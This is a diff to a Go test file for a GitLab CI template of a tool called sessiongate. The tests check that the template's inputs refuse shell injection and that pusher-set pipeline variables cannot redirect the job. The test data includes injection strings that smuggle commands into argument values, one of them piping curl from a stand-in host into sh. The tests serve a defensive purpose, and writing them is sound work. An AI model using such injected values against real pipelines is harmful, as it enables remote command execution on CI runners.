@@ -2,10 +2,12 @@ package main
 
 import (
 	"encoding/json"
+	"fmt"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"regexp"
+	"slices"
 	"strconv"
 	"strings"
 	"testing"
@@ -29,23 +31,31 @@ func TestVerifyGitLabTemplate(t *testing.T) {
 		}
 		t.Skip("curl not found: the template's install step needs it")
 	}
-	b, err := os.ReadFile(filepath.Join("..", "..", "ci", "gitlab", "sessiongate-verify.gitlab-ci.yml"))
-	if err != nil {
-		t.Fatal(err)
+	spec, jobText := readGitLabTemplate(t)
+	if len(spec) == 0 {
+		t.Fatal("the template declares no spec: inputs")
 	}
-	var tmpl map[string]struct {
-		Variables map[string]string
-		Script    []string
-		Artifacts struct {
-			Reports struct{ Codequality string }
+	job := func(t *testing.T, inputs map[string]string) gitlabJob {
+		t.Helper()
+		text, err := interpolateInputs(jobText, spec, inputs)
+		if err != nil {
+			t.Fatal(err)
 		}
-	}
-	if err := yaml.Unmarshal(b, &tmpl); err != nil {
-		t.Fatal(err)
-	}
-	job, ok := tmpl["sessiongate-verify"]
-	if !ok || len(job.Script) == 0 || job.Artifacts.Reports.Codequality == "" {
-		t.Fatalf("the template has no sessiongate-verify job with a script and a codequality report: %+v", tmpl)
+		var tmpl map[string]gitlabJob
+		if err := yaml.Unmarshal([]byte(text), &tmpl); err != nil {
+			t.Fatal(err)
+		}
+		j, ok := tmpl["sessiongate-verify"]
+		if !ok || len(j.Script) == 0 || j.Artifacts.Reports.Codequality == "" {
+			t.Fatalf("the template has no sessiongate-verify job with a script and a codequality report: %+v", tmpl)
+		}
+		// Its settings are inputs: a job variable is one a pusher overrides.
+		for k := range j.Variables {
+			if strings.HasPrefix(k, "SESSIONGATE_") {
+				t.Fatalf("the job still reads its setting %s from a variable", k)
+			}
+		}
+		return j
 	}
 	srv, _ := newReleaseHost(t)
 	w := newCIWorld(t)
@@ -84,6 +94,7 @@ func TestVerifyGitLabTemplate(t *testing.T) {
 		sha    string // what the runner checks out
 		depth  int    // GIT_DEPTH (0: full)
 		env    []string
+		inputs map[string]string // the include's inputs beside version, releases and bin_dir
 		code   int
 		want   []string
 		issues int // Code Quality entries
@@ -120,10 +131,11 @@ func TestVerifyGitLabTemplate(t *testing.T) {
 				forgeRecord(t, w, w.fork, "sessions/0f/0f0f0f0f-0000-4000-8000-000000000002.json", `{"session_id":"0f0f0f0f-0000-4000-8000-000000000002"}`)
 			},
 			env: append(mr("5", "feature"), "CI_COMMIT_SHA="+w.work2, "CI_MERGE_REQUEST_SOURCE_PROJECT_URL=file://"+w.fork,
-				"CI_MERGE_REQUEST_SOURCE_PROJECT_ID=2", "SESSIONGATE_FORK_RECORDS=push", "CI_JOB_TOKEN=tok", "CI_SERVER_HOST=gitlab.invalid",
+				"CI_MERGE_REQUEST_SOURCE_PROJECT_ID=2", "CI_JOB_TOKEN=tok", "CI_SERVER_HOST=gitlab.invalid",
 				"CI_PROJECT_PATH=acme/project", "GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=url.file://"+w.remote+".insteadOf",
 				"GIT_CONFIG_VALUE_0=https://gitlab-ci-token:tok@gitlab.invalid/acme/project.git"),
-			want: []string{`(?m)^OK .* add work1\.txt`, `pushed \d+ record file\(s\) of session\(s\) `},
+			inputs: map[string]string{"fork_records": "push"},
+			want:   []string{`(?m)^OK .* add work1\.txt`, `pushed \d+ record file\(s\) of session\(s\) `},
 			check: func(t *testing.T) {
 				held := w.git(t, w.remote, "ls-tree", "-r", "--name-only", "refs/sessiongate/records")
 				if strings.Contains(held, "0f0f0f0f-0000-4000-8000-000000000002") {
@@ -134,6 +146,23 @@ func TestVerifyGitLabTemplate(t *testing.T) {
 					t.Errorf("the project lacks the merge request's session record %q:\n%s", sid, held)
 				}
 			}},
+		// A pusher's pipeline variables (git push -o ci.variable=...)
+		// named as the old settings: a range of nothing, a release host of
+		// their own. Before inputs, the job's variables were theirs to
+		// override, and verify got the pusher's range; now the job stops,
+		// naming the input.
+		{name: "lazy: a pipeline variable SESSIONGATE_ARGS names an empty range", sha: w.notrailer, depth: 20,
+			env:  append(push("bad-notrailer", w.main, w.notrailer), "SESSIONGATE_ARGS="+w.notrailer+".."+w.notrailer),
+			code: 2, want: []string{`SESSIONGATE_ARGS is set as a CI/CD variable: this template takes its settings as inputs`}},
+		{name: "lazy: a pipeline variable SESSIONGATE_RELEASES points at another host", sha: w.notrailer, depth: 20,
+			env:  append(push("bad-notrailer", w.main, w.notrailer), "SESSIONGATE_RELEASES=https://pusher.invalid/releases"),
+			code: 2, want: []string{`SESSIONGATE_RELEASES is set as a CI/CD variable`}},
+		// The honest twin: the same commit through the include's inputs is
+		// checked, and fails as it should.
+		{name: "push pipeline, the include's args input", sha: w.notrailer, depth: 20,
+			env:    push("bad-notrailer", w.main, w.notrailer),
+			inputs: map[string]string{"args": "--recheck 5"},
+			code:   1, issues: 1, want: []string{`(?m)^FAIL .* sneak a change`}},
 	}
 	for _, c := range cases {
 		t.Run(c.name, func(t *testing.T) {
@@ -141,15 +170,24 @@ func TestVerifyGitLabTemplate(t *testing.T) {
 				c.setup(t)
 			}
 			ci := checkout(t, c.sha, c.depth)
-			binDir := t.TempDir()
+			// Under the world's folder: a subtest's own folder holds its
+			// name's commas and quotes, which bin_dir's regex refuses.
+			binDir, err := os.MkdirTemp(w.dir, "bin")
+			if err != nil {
+				t.Fatal(err)
+			}
+			inputs := map[string]string{"version": "v1.2.3", "releases": srv.URL + "/releases", "bin_dir": binDir}
+			for k, v := range c.inputs {
+				inputs[k] = v
+			}
+			job := job(t, inputs)
 			env := append([]string{}, w.env...)
 			for k, v := range job.Variables {
 				env = append(env, k+"="+v)
 			}
 			env = append(env, project...)
 			env = append(env, c.env...)
-			env = append(env, "GIT_DEPTH="+strconv.Itoa(c.depth), "CI_PROJECT_DIR="+ci,
-				"SESSIONGATE_VERSION=v1.2.3", "SESSIONGATE_RELEASES="+srv.URL+"/releases", "SESSIONGATE_BIN_DIR="+binDir)
+			env = append(env, "GIT_DEPTH="+strconv.Itoa(c.depth), "CI_PROJECT_DIR="+ci)
 			// The job's image has no sessiongate: only the one installed.
 			var path []string
 			for _, d := range filepath.SplitList(os.Getenv("PATH")) {
@@ -188,6 +226,9 @@ func TestVerifyGitLabTemplate(t *testing.T) {
 			if c.check != nil {
 				c.check(t)
 			}
+			if c.code == 2 {
+				return // stopped before verify: no report
+			}
 			rb, err := os.ReadFile(filepath.Join(ci, job.Artifacts.Reports.Codequality))
 			if err != nil {
 				t.Fatalf("no Code Quality report at %s: %v", job.Artifacts.Reports.Codequality, err)
@@ -222,4 +263,123 @@ func forgeRecord(t *testing.T, w *ciWorld, dir, path, body string) {
 	run("", "update-index", "--add", "--cacheinfo", "100644,"+blob+","+path)
 	tree := run("", "write-tree")
 	run("", "update-ref", "refs/sessiongate/records", run("", "commit-tree", "-p", tip, "-m", "forged", tree))
+}
+
+// gitlabJob is the part of the template's job the replay reads.
+type gitlabJob struct {
+	Variables map[string]string
+	Script    []string
+	Artifacts struct {
+		Reports struct{ Codequality string }
+	}
+}
+
+// gitlabInput is one of the template's spec: inputs.
+type gitlabInput struct {
+	Default *string
+	Regex   string
+	Options []string
+}
+
+// readGitLabTemplate splits the template into its spec's inputs and the
+// job document after the "---" GitLab's header ends with.
+func readGitLabTemplate(t *testing.T) (map[string]gitlabInput, string) {
+	t.Helper()
+	b, err := os.ReadFile(filepath.Join("..", "..", "ci", "gitlab", "sessiongate-verify.gitlab-ci.yml"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	head, jobText, ok := strings.Cut(string(b), "\n---\n")
+	if !ok {
+		t.Fatal("the template has no spec header ending in ---")
+	}
+	var spec struct {
+		Spec struct{ Inputs map[string]gitlabInput }
+	}
+	if err := yaml.Unmarshal([]byte(head), &spec); err != nil {
+		t.Fatal(err)
+	}
+	return spec.Spec.Inputs, jobText
+}
+
+var inputRef = regexp.MustCompile(`\$\[\[\s*inputs\.([A-Za-z0-9_]+)\s*\]\]`)
+
+// interpolateInputs is GitLab's interpolation of $[[ inputs.NAME ]] as
+// an include with the given inputs makes it: an unknown name, an input
+// with no value and no default, or a value its regex or options refuse is
+// an error, as GitLab refuses the pipeline. (GitLab's regexes are RE2, as
+// Go's.)
+func interpolateInputs(text string, spec map[string]gitlabInput, given map[string]string) (string, error) {
+	values := map[string]string{}
+	for name, in := range spec {
+		v, ok := given[name]
+		if !ok {
+			if in.Default == nil {
+				return "", fmt.Errorf("input %s: no value and no default", name)
+			}
+			v = *in.Default
+		}
+		if in.Regex != "" && !regexp.MustCompile(in.Regex).MatchString(v) {
+			return "", fmt.Errorf("input %s: %q does not match %s", name, v, in.Regex)
+		}
+		if len(in.Options) > 0 && !slices.Contains(in.Options, v) {
+			return "", fmt.Errorf("input %s: %q is not one of %v", name, v, in.Options)
+		}
+		values[name] = v
+	}
+	for name := range given {
+		if _, ok := spec[name]; !ok {
+			return "", fmt.Errorf("input %s: the template declares no such input", name)
+		}
+	}
+	var bad error
+	out := inputRef.ReplaceAllStringFunc(text, func(m string) string {
+		name := inputRef.FindStringSubmatch(m)[1]
+		v, ok := values[name]
+		if !ok && bad == nil {
+			bad = fmt.Errorf("the template uses $[[ inputs.%s ]], which its spec does not declare", name)
+		}
+		return v
+	})
+	return out, bad
+}
+
+// TestGitLabTemplateInputs: the template's inputs are pasted into its
+// shell between single quotes, so each input's regex must refuse a quote
+// and anything else that would end the string or run a command; the
+// values the docs show pass.
+func TestGitLabTemplateInputs(t *testing.T) {
+	spec, jobText := readGitLabTemplate(t)
+	if _, err := interpolateInputs(jobText, spec, nil); err != nil {
+		t.Fatalf("the defaults: %v", err)
+	}
+	for _, c := range []struct {
+		name, value string
+		ok          bool
+	}{
+		{"args", "--rerun", true},
+		{"args", "--recheck 20 --rerun", true},
+		{"args", "--range main..HEAD", true},
+		{"args", "--rerun'; curl https://x.invalid | sh; '", false},
+		{"args", "$(id)", false},
+		{"args", "--rerun `id`", false},
+		{"releases", "https://github.com/sessiongate/sessiongate/releases", true},
+		{"releases", "https://x.invalid/r' ; id ; '", false},
+		{"bin_dir", "/usr/local/bin", true},
+		{"bin_dir", "/tmp/x y", false},
+		{"version", "v1.2.3", true},
+		{"version", "1.2.3-rc.1", true},
+		{"version", "latest; id", false},
+		{"records_ref", "refs/sessiongate/records", true},
+		{"records_ref", "refs/x'y", false},
+		{"fork_records", "push", true},
+		{"fork_records", "always", false},
+		{"src_ref", "main", true},
+		{"src_ref", "-o x", false},
+	} {
+		_, err := interpolateInputs(jobText, spec, map[string]string{c.name: c.value})
+		if (err == nil) != c.ok {
+			t.Errorf("input %s = %q: error %v, want accepted %v", c.name, c.value, err, c.ok)
+		}
+	}
 }
